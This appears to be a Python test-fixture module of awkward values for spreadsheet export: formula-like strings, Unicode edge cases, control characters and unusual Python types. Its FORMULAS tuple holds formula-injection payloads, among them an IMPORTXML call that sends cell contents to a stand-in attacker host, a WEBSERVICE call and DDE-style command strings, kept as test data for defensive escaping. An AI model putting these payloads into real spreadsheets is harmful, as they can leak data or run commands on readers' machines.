"""Values that have broken spreadsheets elsewhere."""

from __future__ import annotations

import uuid
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

FORMULAS = (
    "=1+1", "=", "==", "=A1", "=SUM(A1:A9)", '=HYPERLINK("http://evil.example","klik")', "=app|'x'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
    "=DDE(\"app\";\"x\";\"y\")", "={1,2}", "=\n1+1", "= 1+1", "=-1", "=@A1", "=#REF!", "=TRUE", "='Sheet'!A1",
    "+1", "+62 812-3456-7890", "+app|'x'!A0", "+1+1", "-1", "-1+1", "--5", "-app|'x'!A0", "-", "+", "@",
    "@SUM(1+1)*app|'x'!A0", "@A1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠A1", "'=1+1",
    '"=1+1"', " =1+1", ";=1+1", "a;=1+1", "a,=1+1", "_x003D_1+1", "<f>1+1</f>", "#N/A", "#REF!", "TRUE", "1E5",
    "0012", "3201121234567890", "１２", "</t></is></c><c><f>1+1</f>", "&#61;1+1", "]]>", "%0A=1+1",
)  # fmt: skip
"""Text that is, looks like or could become a formula. All of it can be stored as it is."""

STORABLE = (
    "", " ", "  dua  spasi ", "baris\nbaris", "tab\ttab", "akhir\r\nbaris", "\rmulai", "é e\u0301 ß İ ﬁ",
    "\U0001f4f1\U0001f1ee\U0001f1e9", "\u202eterbalik", "\u00a0", "\ufeffbom", "\x7f\x85\x9f", "\u2028\u2029",
    "_x000D_ dan _x0041__x0042_", "a" * 32_767, "\U0001f4f1" * 16_383,
)  # fmt: skip
"""Text that a sheet can hold unchanged."""

UNSTORABLE = {
    "nul\x00": "nul\ufffd", "\x01\x08\x0b\x0c\x0e\x1f": "\ufffd" * 6, "\ufffe\uffff": "\ufffd\ufffd",
    "\ud800 lepas \udfff": "\ufffd lepas \ufffd", "\x1b[31mmerah": "\ufffd[31mmerah",
}  # fmt: skip
"""Text that no sheet can hold, and what becomes of it."""

ODD = (
    None, True, False, 0, -5, 10**14, 10**15, -(10**15), 10**400, 320112123456789012, 1.5, -0.0, 1e308, float("nan"),
    float("inf"), Decimal("1234.50"), Decimal("NaN"), Decimal("sNaN"), Decimal("Infinity"), Decimal("1E+400"),
    Decimal("0.1234567890123456789"), uuid.UUID(int=7), b"bytes\xff", date(1, 1, 1), date(1900, 2, 28), date.max,
    datetime(2026, 11, 22, 1, 2, 3), datetime(2026, 11, 22, 1, 2, 3, 456789, tzinfo=UTC), datetime.min, datetime.max,
    datetime.min.replace(tzinfo=UTC), datetime.max.replace(tzinfo=timezone(-timedelta(hours=12))), timedelta(days=3),
    ["=1+1", {"a": 1}], {"=": "="}, ("x",), 3 + 4j, range(3), object,
)  # fmt: skip
"""Values of kinds that a column does not expect."""

assert len(FORMULAS) >= 40
